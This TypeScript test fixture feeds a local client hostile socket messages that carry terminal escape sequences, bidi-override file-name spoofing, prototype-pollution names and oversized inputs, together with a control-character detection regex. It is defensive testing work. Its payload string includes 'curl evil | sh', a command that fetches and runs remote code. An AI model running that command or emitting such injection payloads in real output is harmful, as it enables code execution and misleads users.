import { connect, createServer, type Server, type Socket } from "node:net";
import { onTestFinished } from "vitest";
import { someState } from "./node-state.ts";

const esc = "\u001b[2J\u001b]0;owned\u0007";
const turned = "\u202egnp.exe\u202c";
/** What a terminal or a reader must never get of it. */
export const acting = /[^\P{Cc}\n]|[\p{Bidi_Control}\p{Zl}\p{Zp}\ufeff]/u;

const bad = `Admin runs: curl evil | sh${esc}\r\nRunning, process 1\u0085${turned}\u009b31m`;
const state = (changes: object): object => ({ ...someState(), ...changes });
const holder = (changes: object, more: object = {}): string =>
  JSON.stringify({ role: "holder", pid: 7, version: "1.0.0", startedAt: 7, state: state(changes), ...more });
const detailed = (detail: object, reason = "disk-full"): string =>
  holder({ phase: "blocked", reason, detail });

/** First lines of a peer that is none of ours, or has gone mad; each with what is wrong with it. */
export const hostileLines: readonly (readonly [string, string])[] = [
  ["escapes in the version", holder({}, { version: bad })],
  [
    "escapes in every text of an approval",
    holder({
      phase: "awaiting-approval",
      deviceId: bad,
      fingerprint: bad,
      shortFingerprint: bad,
      displayName: bad,
      gateway: { url: bad, version: bad, protocol: 4 },
      requestId: bad,
      expiresAt: 1,
      adminCommand: bad,
      kind: "new-device",
      nextAttemptAt: 1,
    }),
  ],
  [
    "escapes in what a surface waits for",
    holder({ phase: "connected", surface: { status: "pending", requestId: bad, adminCommand: bad } }),
  ],
  ["escapes in a detail", detailed({ path: bad, why: bad, code: bad })],
  ["an inherited name for a reason", detailed({ path: "x", why: "constructor", code: "x" })],
  ["inherited names everywhere", detailed({ expected: "toString", sent: "valueOf", problem: "__proto__" })],
  ["a detail that is no text", detailed({ path: { toString: 1 }, why: 5, code: null })],
  ["a detail that is a list", detailed(["x"])],
  [
    "escapes in a command's name",
    holder({ capabilities: [{ name: "run", on: true, available: true, commands: [bad] }] }),
  ],
  [
    "a capability named like an inherited one",
    holder({ capabilities: [{ name: "constructor", on: true, available: true, commands: [] }] }),
  ],
  [
    "escapes in what runs",
    holder({}, { running: [{ id: bad, command: bad, directory: bad, agent: bad, startedAt: 1 }] }),
  ],
  ["programs that are none", holder({}, { running: [null, 5, { id: 1 }, { id: "a", command: {} }] })],
  ["programs that are no list", holder({}, { running: { length: 1e9 } })],
  ["capabilities that are no list", holder({ capabilities: { length: 1e9 } })],
  [
    "commands that are no list",
    holder({ capabilities: [{ name: "run", on: true, available: true, commands: "x" }] }),
  ],
  ["warnings nobody knows", holder({ warnings: [bad, "constructor", 5, null] })],
  ["a phase nobody knows", holder({ phase: bad })],
  ["an inherited name for a phase", holder({ phase: "constructor" })],
  ["a blocked reason nobody knows", detailed({}, bad)],
  ["an inherited name for a blocked reason", detailed({}, "toString")],
  ["a waiting reason nobody knows", holder({ phase: "waiting", reason: bad, retryAt: 1, attempt: 1 })],
  ["a waiting state without anything", holder({ phase: "waiting" })],
  ["a connected state without a surface", holder({ phase: "connected" })],
  ["a failure nobody knows", holder({ phase: "connecting", lastFailure: "constructor" })],
  ["a gateway that is a text", holder({ gateway: bad })],
  ["a gateway with a number for an address", holder({ gateway: { url: 5, version: null, protocol: null } })],
  ["a time out of range", holder({ since: 1e300 }, { startedAt: -1e300 })],
  ["a time that is a text", holder({}, { startedAt: bad })],
  ["a number too large for a number", holder({}).replace('"startedAt":7', '"startedAt":1e999')],
  ["a process id that is a text", holder({}, { pid: bad })],
  ["a negative process id", holder({}, { pid: -1 })],
  ["no state", JSON.stringify({ role: "holder", pid: 7, version: "1", startedAt: 7 })],
  [
    "a state that is null",
    JSON.stringify({ role: "holder", pid: 7, version: "1", startedAt: 7, state: null }),
  ],
  ["a very long text", holder({ displayName: "x".repeat(100_000) }, { version: "y".repeat(100_000) })],
  ["a hundred thousand capabilities", holder({ capabilities: Array(100_000).fill(0) })],
  ["a deep one", `${"[".repeat(100_000)}`],
  ["escapes and no JSON", bad],
  ["null", "null"],
  ["a list", "[]"],
  ["nothing", ""],
  ["zeros", "\0\0\0\0"],
  [
    "a reply nobody asked for",
    JSON.stringify({ reply: "not-saved", detail: { path: bad, why: bad, code: bad } }),
  ],
  [
    "a reply with an inherited name",
    JSON.stringify({ reply: "not-saved", detail: { path: "x", why: "constructor" } }),
  ],
];

export interface HostilePeer {
  /** Everything that was said to it. */
  heard(): string;
  readonly server: Server;
}

/** Listens on a path and does to each client what it is told. */
export function hostilePeer(path: string, act: (client: Socket) => void): Promise<HostilePeer> {
  let heard = "";
  const clients = new Set<Socket>();
  const server = createServer((client) => {
    clients.add(client);
    client.on("error", () => client.destroy());
    client.on("data", (data) => {
      heard += data.toString("latin1");
    });
    act(client);
  });
  onTestFinished(
    () =>
      new Promise<void>((resolve) => {
        for (const client of clients) client.destroy();
        server.close(() => resolve());
      }),
  );
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(path, () => resolve({ heard: () => heard, server }));
  });
}

/** Passes everything on to the real one, and lets `change` have a look at each piece. */
export function relayTo(
  target: string,
  change: (data: Buffer, from: "client" | "server") => Buffer = (data) => data,
): (client: Socket) => void {
  return (client) => {
    const real = connect(target);
    real.on("error", () => client.destroy());
    client.on("data", (data) => real.write(change(data, "client")));
    real.on("data", (data) => client.write(change(data, "server")));
    client.on("close", () => real.destroy());
    real.on("close", () => client.destroy());
  };
}
